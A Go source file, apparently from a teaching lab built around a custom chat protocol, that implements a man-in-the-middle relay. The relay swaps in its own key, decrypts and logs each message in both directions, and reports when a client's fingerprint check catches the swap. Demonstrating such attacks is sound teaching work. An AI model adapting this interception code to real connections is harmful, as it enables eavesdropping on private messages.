package attack

import (
	"errors"
	"fmt"
	"net"

	"chatlab/protocol"
)

// intercept is the man in the middle: one handshake with the server as an
// ordinary client, one with the client using the relay's own key in place
// of the server's, then every message is opened, shown and sealed again.
func (r *Relay) intercept(cs *connState, client, up net.Conn) error {
	upConn, hello, err := protocol.Client(&checkedConn{Conn: up, r: r}, protocol.ClientConfig{Suites: r.cfg.Suites})
	var mm *ModeMismatchError
	if errors.As(err, &mm) {
		return mm
	}
	if err != nil {
		return fmt.Errorf("handshake with the server: %w", err)
	}
	r.out.infof("#%d the server's real key (%s):", cs.id, hello.Suite)
	r.out.infof("#%d   %s", cs.id, protocol.FingerprintDER(hello.KeyDER))
	suite := protocol.AES128GCM()
	for _, s := range r.cfg.Suites {
		if s.ID() == hello.Suite {
			suite = s
		}
	}
	tapped := &tappedConn{Conn: client, r: r, cs: cs}
	cConn, err := protocol.Server(tapped, protocol.ServerConfig{Key: r.cfg.Key, Suite: suite})
	if err != nil {
		r.out.infof("#%d the client refused the relay's key: its fingerprint check caught the swap", cs.id)
		r.emit(Event{Conn: cs.id, Kind: Refused, Err: err})
		return nil
	}
	r.out.warnf("#%d SWAPPED KEY: the client accepted the relay's key as the server's:", cs.id)
	r.out.warnf("#%d   %s", cs.id, protocol.Fingerprint(&r.cfg.Key.PublicKey))
	done := make(chan struct{})
	go func() {
		defer close(done)
		r.carry(cs, upConn, cConn, false)
	}()
	r.carry(cs, cConn, upConn, true)
	<-done
	return nil
}

// carry opens each message from src, reports it and seals it for dst.
func (r *Relay) carry(cs *connState, src, dst *protocol.Conn, fromClient bool) {
	defer closeWrite(dst.NetConn())
	who := "server → client"
	if fromClient {
		who = "client → server"
	}
	rec := 0
	for {
		msg, err := src.ReadMessage()
		if err != nil {
			return
		}
		if fromClient {
			rec++
		}
		r.out.warnf("#%d READ %s: %q", cs.id, who, protocol.Sanitize(msg))
		r.emit(Event{Conn: cs.id, Kind: Decrypted, FromClient: fromClient, Record: rec, Text: msg})
		if err := dst.WriteMessages(msg); err != nil {
			return
		}
	}
}

// tappedConn shows the client's side of an intercepted connection to the
// relay's Wire, as a sniffer between the client and the relay would see it.
type tappedConn struct {
	net.Conn
	r  *Relay
	cs *connState
}

func (t *tappedConn) Read(b []byte) (int, error) {
	n, err := t.Conn.Read(b)
	t.r.wire(t.cs, true, b[:n])
	return n, err
}

func (t *tappedConn) Write(b []byte) (int, error) {
	t.r.wire(t.cs, false, b)
	return t.Conn.Write(b)
}

// CloseWrite passes a half-close on to the client's connection.
func (t *tappedConn) CloseWrite() error {
	closeWrite(t.Conn)
	return nil
}
